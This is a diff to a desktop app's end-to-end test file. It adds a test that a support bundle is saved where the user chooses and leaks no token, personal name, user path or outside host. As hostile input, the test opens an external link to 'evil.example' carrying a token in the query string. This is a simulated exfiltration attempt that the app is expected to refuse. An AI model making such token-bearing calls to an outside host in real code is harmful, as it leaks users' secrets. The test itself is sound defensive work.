@@ -1,4 +1,4 @@
-import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
+import { appendFileSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { ask, expect, launchDesktop, test } from './fixtures.ts';
 
@@ -82,4 +82,26 @@ test('damaged files do not stop the start, and are kept beside the new ones', as
     expect(readFileSync(join(userDataDir, `${name}.broken`), 'utf8')).toBe(content);
   }
   expect(readFileSync(join(userDataDir, 'settings.json'), 'utf8')).toContain('"dark"');
+});
+
+test('the support bundle is saved where the person says, and holds nothing of anybody', async ({
+  desktop: { app, page },
+  userDataDir,
+}) => {
+  await ask(page, 'session:write', { key: `bad/${token}`, value: token });
+  await ask(page, 'links:open-external', `http://evil.example/?token=${token}`);
+  await ask(page, 'session:write', entry);
+  appendFileSync(join(userDataDir, 'logs/main.log'), `{"event":"started","reason":"Dr Rahman","name":"${token}"}\n`);
+  const path = join(userDataDir, 'chosen.json');
+  await app.evaluate(({ dialog }, filePath) => {
+    Object.assign(dialog, { showSaveDialog: () => Promise.resolve({ canceled: false, filePath }) });
+  }, path);
+  expect(await ask(page, 'support:save')).toEqual({ ok: true, value: true });
+  const bundle = readFileSync(path, 'utf8');
+  for (const secret of [token, 'Rahman', 'evil.example', userDataDir]) expect(bundle).not.toContain(secret);
+  expect(bundle).toContain('"event": "request-refused"');
+  await app.evaluate(({ dialog }) => {
+    Object.assign(dialog, { showSaveDialog: () => Promise.resolve({ canceled: true, filePath: '' }) });
+  });
+  expect(await ask(page, 'support:save')).toEqual({ ok: true, value: false });
 });
